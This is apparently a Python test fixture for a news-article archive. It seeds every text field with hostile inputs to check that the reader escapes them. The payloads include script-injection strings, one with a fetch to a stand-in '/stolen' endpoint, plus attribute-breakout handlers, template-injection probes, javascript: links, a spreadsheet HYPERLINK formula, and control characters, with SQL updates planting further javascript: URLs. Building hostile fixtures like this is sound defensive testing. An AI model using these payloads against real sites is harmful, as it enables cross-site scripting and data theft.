"""An archive of pages that were written to do harm to whoever reads them.

Every text field says something that would run, or break a page, if it were not escaped. Nothing
of it may be cleaned on its way in here, as the extraction would: the reader must stand alone.
"""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path

from sqlalchemy import text

from archive.core.urls import normalise_url
from archive.db.engine import open_engine
from archive.db.repository import Reading, UrlOutcome
from archive.home import Home, create_home
from archive.model import Extraction, Outcome, UrlKind, UrlState
from tests.unit.archive.shelf import Shelf, answer

NOW = datetime(2026, 11, 20, 9, 30, tzinfo=UTC)
SCRIPT = "<script>document.title='OWNED';fetch('http://127.0.0.1:9/stolen')</script>"
BREAKOUT = """"'><img src=x onerror="document.title='OWNED'"><svg/onload=alert(1)>"""
TEMPLATE = "{{7*7}} {% raw %} ${7*7} #{7*7} <%= 7*7 %> {{config.items()}} %(n)s %s"
LINK = "javascript:document.title='OWNED'"
CONTROL = "".join(map(chr, [*range(32), *range(0x7F, 0xA0)])) + "\u202e\u2028\ufffe\ue000x\ue001"
LONG = "panjang" * 143_000
"""One line of 1 MB, in one word."""
FORMULA = '=HYPERLINK("http://127.0.0.1:9/","klik")'
MARKUP = "]]> --> </style></textarea></title><!-- &amp; &lt;script&gt; \\u003cscript\\u003e"
HOSTILE = {
    "script": SCRIPT,
    "breakout": BREAKOUT,
    "template": TEMPLATE,
    "link": LINK,
    "control": CONTROL,
    "long": LONG,
    "formula": FORMULA,
    "markup": MARKUP,
}
"""What is said in every field of an article, by the article's name."""
STORY = " ".join(f"kata{number}" for number in range(300))
PAGE = f"<!doctype html><title>{SCRIPT}</title>{SCRIPT}<body onload='parent.location=\"{LINK}\"'>"


def make_hostile_home(path: Path) -> Home:
    """Make it: the articles of `HOSTILE`, each with two revisions and a copy elsewhere.

    The word `racun` is in all of them; some have vanished.
    """
    home = create_home(path)
    engine = open_engine(home.database_url)
    shelf = Shelf(home, engine)
    other = shelf.source("warta", "https://warta.example")
    with shelf.writer() as writer:
        for number, (name, said) in enumerate(HOSTILE.items()):
            for revision in (1, 2):
                _save(shelf, writer, 1, name, said, NOW + timedelta(hours=number + revision))
            _save(shelf, writer, other, name, said, NOW + timedelta(days=1))
    with engine.begin() as connection:
        for statement in _FOUL:
            connection.execute(text(statement), {"said": SCRIPT + CONTROL[1:], "at": _iso(NOW)})
    summary = {SCRIPT: {"found": 1, "fetched": 2, "articles": 3, "errors": 4, "requisites": 5}}
    shelf.repository.finish_run(shelf.run_id, "done", summary, NOW)
    engine.dispose()
    return home


_FOUL = (
    "UPDATE articles SET vanished_at = :at, vanished_as = :said WHERE id % 3 = 1",
    "UPDATE captures SET error = :said, content_type = :said",
    "UPDATE sources SET title = :said, language = :said, url = 'javascript:alert(1)'",
    "UPDATE runs SET command = :said",
    "UPDATE urls SET reason = :said, found_in = :said",
    "UPDATE articles SET canonical_url = 'javascript:alert(1)//' || id WHERE id % 4 = 0",
    "UPDATE articles SET url = 'javascript:alert(2)//' || id WHERE id % 4 = 0",
    "UPDATE articles SET published_at = '9999-12-31T23:59:59.000000Z' WHERE id % 5 = 0",
    "UPDATE articles SET published_at = '0001-01-01T00:00:00.000000Z' WHERE id % 5 = 1",
)


def _save(shelf: Shelf, writer: object, source_id: int, name: str, said: str, at: datetime) -> None:
    site = "https://suara.example" if source_id == 1 else "https://warta.example"
    url = normalise_url(f"{site}/{name}?q=<script>alert(1)</script>&x=%22%3E{{{{7*7}}}}")
    url_id = shelf.know(url, UrlKind.PAGE, source_id)
    capture = shelf.keep(writer, url, answer(f"{PAGE}{at}"))  # type: ignore[arg-type]
    story = f"racun {at.isoformat()}\n{STORY}\n{said}"
    extraction = Extraction(
        outcome=Outcome.ARTICLE,
        extractor=said[:200],
        title=f"{said} racun",
        authors=[said, "Ani"],
        organisations=[said],
        tags=[said],
        section=said[:500],
        language="id",
        description=said,
        text=story,
        markdown=f"[{said}]({LINK}) <b>{story}</b>",
        image_url=LINK,
        image_caption=said,
        canonical_url=url,
        published_at=NOW,
        modified_at=NOW,
        word_count=300,
        rules=[said],
        links=[LINK],
    )
    reading = Reading(url, url, extraction, at)
    shelf.repository.save_visit(
        [capture],
        UrlOutcome(200, UrlState.ARTICLE),
        run_id=shelf.run_id,
        source_id=source_id,
        url_id=url_id,
        reading=reading,
    )


def _iso(at: datetime) -> str:
    return at.strftime("%Y-%m-%dT%H:%M:%S.%fZ")
